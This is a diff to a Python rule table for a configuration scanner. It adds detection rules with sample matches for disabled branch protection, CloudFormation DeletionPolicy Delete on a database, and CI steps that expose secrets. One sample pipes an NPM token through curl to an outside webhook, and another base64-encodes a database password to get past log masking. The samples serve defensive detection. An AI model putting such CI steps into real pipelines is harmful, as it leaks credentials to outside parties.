@@ -359,11 +359,15 @@ RULES: tuple[DocRule, ...] = (
             "  allows_force_pushes = true\n}\n",
             '{"required_status_checks": null, "enforce_admins": false, '
             '"allow_force_pushes": true, "allow_deletions": true}',
+            '{"name": "main", "target": "branch", "enforcement": "disabled", '
+            '"rules": [{"type": "non_fast_forward"}]}',
         ),
         not_match=(
             'resource "github_branch_protection" "main" {\n  pattern = "main"\n'
             "  allows_force_pushes = false\n  allows_deletions = false\n}\n",
             '{"enforce_admins": true, "allow_force_pushes": false, "allow_deletions": false}',
+            '{"name": "main", "target": "branch", "enforcement": "active", '
+            '"rules": [{"type": "non_fast_forward"}]}',
         ),
     ),
     DocRule(
@@ -371,16 +375,21 @@ RULES: tuple[DocRule, ...] = (
         "destructive",
         "high",
         "require_approval",
-        "Sets force_destroy on a storage bucket: the next destroy or replacement deletes every "
-        "object in it instead of stopping.",
+        "Sets force_destroy on a storage bucket, or DeletionPolicy Delete on a CloudFormation "
+        "data store: the next destroy, removal or replacement deletes the data instead of "
+        "stopping or keeping a snapshot.",
         ("destroy_guard_off",),
         match=(
             'resource "aws_s3_bucket" "docs" {\n  bucket = "docs-prod"\n'
             "  force_destroy = true\n}\n",
+            "Resources:\n  OrdersDB:\n    Type: AWS::RDS::DBInstance\n    DeletionPolicy: Delete\n",
         ),
         not_match=(
             'resource "aws_s3_bucket" "docs" {\n  bucket = "docs-prod"\n  force_destroy = false\n'
             "  lifecycle {\n    prevent_destroy = true\n  }\n}\n",
+            "Resources:\n  OrdersDB:\n    Type: AWS::RDS::DBInstance\n"
+            "    DeletionPolicy: Snapshot\n  Queue:\n    Type: AWS::SQS::Queue\n"
+            "    DeletionPolicy: Delete\n",
         ),
     ),
     DocRule(
@@ -495,6 +504,28 @@ RULES: tuple[DocRule, ...] = (
         not_match=(
             "bindings:\n- members:\n  - user:ops@acme.example\n  role: roles/editor\n",
             "bindings:\n- members:\n  - user:friend@gmail.com\n  role: roles/viewer\n",
+        ),
+    ),
+    DocRule(
+        "doc.ci_secret_exposed",
+        "secrets",
+        "high",
+        "require_approval",
+        "A CI step prints a repository secret into an encoder or a network program: the "
+        "value leaves the secret store (encoded past the log masking, or sent out).",
+        ("ci_secret_exposed",),
+        match=(
+            'jobs:\n  dump:\n    steps:\n      - run: echo "${{ secrets.PROD_DB_PASSWORD }}"'
+            " | base64\n",
+            "steps:\n  - run: |\n      npm ci\n      echo ${{ secrets.NPM_TOKEN }} | curl -s -X"
+            " POST --data-binary @- https://hooks.example.net/x\n",
+        ),
+        not_match=(
+            "steps:\n  - run: npm publish\n    env:\n"
+            "      NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
+            'steps:\n  - run: echo "${{ secrets.REGISTRY_PASSWORD }}" | docker login ghcr.io'
+            " -u bot --password-stdin\n",
+            'steps:\n  - run: echo "deploying ${{ github.sha }}" | tee deploy.log\n',
         ),
     ),
 )
